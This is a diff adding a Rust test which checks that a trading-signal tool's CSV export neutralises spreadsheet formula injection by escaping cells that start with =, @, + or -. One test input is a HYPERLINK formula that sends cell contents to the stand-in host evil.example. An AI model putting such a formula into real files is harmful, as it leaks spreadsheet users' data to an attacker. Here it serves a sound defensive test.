@@ -184,3 +184,42 @@ async fn commands_find_the_log_through_the_settings_and_tell_who_is_at_fault() {
         assert_eq!(failed(&run(dir.path(), args).await), (Some(64), true), "{args:?}");
     }
 }
+
+/// Case 61: whoever opens the file is not who pushed what is in it.
+#[tokio::test]
+async fn an_exported_csv_is_safe_in_a_spreadsheet() {
+    let dir = TempDir::new().unwrap();
+    let server = Server::start_on(&dir, &[]).await;
+    let link = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
+    let body = json!({"id": "=1+1", "symbol": "EURUSD", "direction": "long", "reason": link, "tp_modes": ["@SUM(A1)"],
+        "model": "+cmd", "entry_price": 1.16, "stop_loss": 1.157, "take_profits": [1.165],
+        "entry_time": "2026-01-15T07:00:00.250Z"});
+    server.push(&body).await;
+    let end = json!({"id": "=1+1", "status": "invalidated", "invalidation": "-2+3"});
+    server.push(&end).await;
+    let export = run(dir.path(), &["export", "--format", "csv"]).await;
+    let mut reader = csv::Reader::from_reader(&*export.stdout);
+    let headers = reader.headers().unwrap().clone();
+    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cell = |name: &str| &records[1][headers.iter().position(|header| header == name).unwrap()];
+    for (name, value) in [
+        ("id", "'=1+1"),
+        ("reason", &format!("'{link}")),
+        ("tp_modes", "'@SUM(A1)"),
+        ("model", "'+cmd"),
+        ("invalidation", "'-2+3"),
+        ("entry_price", "1.16"),
+        ("take_profits", "1.165"),
+        ("entry_time", "2026-01-15 07:00:00.250"),
+        ("symbol", "EURUSD"),
+    ] {
+        assert_eq!(cell(name), value, "{name}");
+    }
+    for name in ["at", "stored_at", "expires_at"] {
+        let time = chrono::NaiveDateTime::parse_from_str(cell(name), "%Y-%m-%d %H:%M:%S%.3f");
+        assert!(time.is_ok(), "{name}: {}", cell(name));
+    }
+    let export = run(dir.path(), &["export", "--format", "json"]).await;
+    let events: Value = serde_json::from_slice(&export.stdout).unwrap();
+    assert_eq!(events[0]["signal"]["reason"], link, "JSON is as it was pushed");
+}
